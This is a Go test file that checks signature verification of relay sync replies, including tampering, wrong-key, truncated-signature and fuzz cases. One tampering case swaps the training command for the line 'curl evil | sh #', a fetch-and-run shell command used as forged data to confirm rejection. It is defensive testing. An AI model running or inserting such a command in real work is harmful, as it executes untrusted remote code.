package protocol

import (
	"bytes"
	"encoding/json"
	"errors"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func reply() *SyncReply {
	return &SyncReply{
		Cluster: "onprem-1", Nonce: "n-0123456789abcdef", ValidSeconds: 20, Term: 2,
		Starts: []Start{{Attempt: 1, Job: iris()}}, Computes: []Compute{{Name: "onprem", Namespace: "train"}},
	}
}

// TestSignedReply: what was signed is believed, and nothing that differs from
// it by a byte.
func TestSignedReply(t *testing.T) {
	key := signingKey()
	other, err := NewSigningKey()
	if err != nil {
		t.Fatal(err)
	}
	data, err := EncodeSigned(reply(), key)
	if err != nil {
		t.Fatal(err)
	}
	trusted := []RelayKey{other.Public(), key.Public()}
	got := new(SyncReply)
	if err := DecodeSigned(data, got, trusted); err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(reply(), got); diff != "" {
		t.Error(diff)
	}

	altered := func(change func(*Envelope)) []byte {
		var e Envelope
		if err := json.Unmarshal(data, &e); err != nil {
			t.Fatal(err)
		}
		change(&e)
		text, err := json.Marshal(e)
		if err != nil {
			t.Fatal(err)
		}
		return text
	}
	replace := func(old, new string) []byte {
		return altered(func(e *Envelope) { e.Body = bytes.Replace(e.Body, []byte(old), []byte(new), 1) })
	}
	unsigned, err := Encode(reply())
	if err != nil {
		t.Fatal(err)
	}
	forged, err := EncodeSigned(reply(), other)
	if err != nil {
		t.Fatal(err)
	}
	for name, tc := range map[string]struct {
		data    []byte
		trusted []RelayKey
		want    BreachKind
	}{
		"no signature":           {unsigned, trusted, Unsigned},
		"another key":            {forged, []RelayKey{key.Public()}, UnknownKey},
		"nothing trusted":        {data, nil, UnknownKey},
		"another key's name":     {altered(func(e *Envelope) { e.Key = other.Public().ID() }), trusted, Forged},
		"another command":        {replace("python3 train.py", "curl evil | sh #"), trusted, Forged},
		"another namespace":      {replace(`"namespace":"train"`, `"namespace":"other"`), trusted, Forged},
		"another cluster":        {replace("onprem-1", "onprem-2"), trusted, Forged},
		"another nonce":          {replace("n-0123", "n-9999"), trusted, Forged},
		"a space":                {altered(func(e *Envelope) { e.Body = append([]byte("{ "), e.Body[1:]...) }), trusted, Forged},
		"a cut signature":        {altered(func(e *Envelope) { e.Signature = e.Signature[:63] }), trusted, Forged},
		"a bit of the signature": {altered(func(e *Envelope) { e.Signature[0] ^= 1 }), trusted, Forged},
	} {
		t.Run(name, func(t *testing.T) {
			var b *Breach
			// encoding/json would drop the space again; the bytes are judged as sent.
			text := tc.data
			if name == "a space" {
				text = bytes.Replace(data, []byte(`"body":{`), []byte(`"body":{ `), 1)
			}
			if err := DecodeSigned(text, new(SyncReply), tc.trusted); !errors.As(err, &b) || b.Kind != tc.want {
				t.Errorf("got %v, want %s", err, tc.want)
			}
		})
	}
}

// TestSignatureIsOfOneKind: an enrolment's signature is none of a sync's answer.
func TestSignatureIsOfOneKind(t *testing.T) {
	key := signingKey()
	body := []byte(`{}`)
	if key.Public().verify("sync-reply", body, key.sign("enrolment", body)) {
		t.Error("a signature of another kind was accepted")
	}
}

func TestRelayKeyText(t *testing.T) {
	key := signingKey().Public()
	text, err := key.MarshalText()
	if err != nil {
		t.Fatal(err)
	}
	var read RelayKey
	if err := read.UnmarshalText(text); err != nil || read != key {
		t.Errorf("%v, %v", read, err)
	}
	for _, bad := range []string{"", "AAAA", string(text[1:]), string(text) + "=", "\n" + string(text), strings.Repeat("!", 44)} {
		if read.UnmarshalText([]byte(bad)) == nil {
			t.Errorf("%q was taken for a key", bad)
		}
	}
	if again, err := SigningKeyFromSeed(signingKey().Seed()); err != nil || again.Public() != key {
		t.Errorf("from its seed: %v", err)
	}
}

// FuzzSigned: without the key, nothing that arrives is believed but what was
// signed.
func FuzzSigned(f *testing.F) {
	key := signingKey()
	genuine, err := EncodeSigned(reply(), key)
	if err != nil {
		f.Fatal(err)
	}
	unsigned, err := Encode(reply())
	if err != nil {
		f.Fatal(err)
	}
	f.Add(genuine)
	f.Add(unsigned)
	var body Envelope
	if err := json.Unmarshal(genuine, &body); err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		got := new(SyncReply)
		if DecodeSigned(data, got, []RelayKey{key.Public()}) != nil {
			return
		}
		var e Envelope
		if err := json.Unmarshal(data, &e); err != nil || !bytes.Equal(e.Body, body.Body) {
			t.Errorf("believed %s", data)
		}
	})
}
